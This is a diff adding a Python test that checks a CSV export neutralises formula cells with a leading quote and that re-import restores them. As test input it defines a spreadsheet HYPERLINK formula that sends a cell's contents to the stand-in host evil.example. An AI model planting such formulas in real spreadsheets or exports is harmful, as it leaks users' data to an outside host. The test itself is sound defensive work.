@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
@@ -10,7 +12,16 @@ from sqlalchemy import Engine, select
 
 from storage.db import count_rows, session_scope
 from storage.exchange import KINDS, Kind
-from storage.files import RawRow, RecordFileError, parse_csv, parse_json, read_rows, to_csv, to_json
+from storage.files import (
+    RawRow,
+    RecordFileError,
+    formula_cells,
+    parse_csv,
+    parse_json,
+    read_rows,
+    to_csv,
+    to_json,
+)
 from storage.importing import ImportReport, export_records, import_rows
 from storage.models import Challenge, IndexOutbox, Member, Person
 
@@ -258,3 +269,27 @@ def _empty(engine: Engine) -> None:
         for model in (Challenge, Person, Member, IndexOutbox):
             for row in session.scalars(select(model)):
                 session.delete(row)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+def test_csv_export_neutralises_formula_cells_and_import_takes_them_back(engine: Engine) -> None:
+    text = (
+        "slug,name,kind,city,capabilities\n"
+        f'evil,"{FORMULA.replace(chr(34), chr(34) * 2)}",company,@Oulu,-dash; +plus\n'
+    )
+    assert formula_cells(text) == 3
+    assert not run(engine, "members", parse_csv(text, "members")).problems
+    with session_scope(engine) as session:
+        exported = to_csv("members", export_records(session=session, kind="members"))
+    cells = next(row for row in csv.DictReader(io.StringIO(exported)) if row["slug"] == "evil")
+    # OWASP's rule: a leading ' so that a spreadsheet shows the text instead of running it.
+    assert (cells["name"], cells["city"], cells["capabilities"]) == (
+        "'" + FORMULA,
+        "'@Oulu",
+        "'-dash;+plus",
+    )
+    assert formula_cells(exported) == 3
+    (row,) = [r for r in parse_csv(exported, "members") if r.values["slug"] == "evil"]
+    assert (row.values["name"], row.values["city"]) == (FORMULA, "@Oulu")
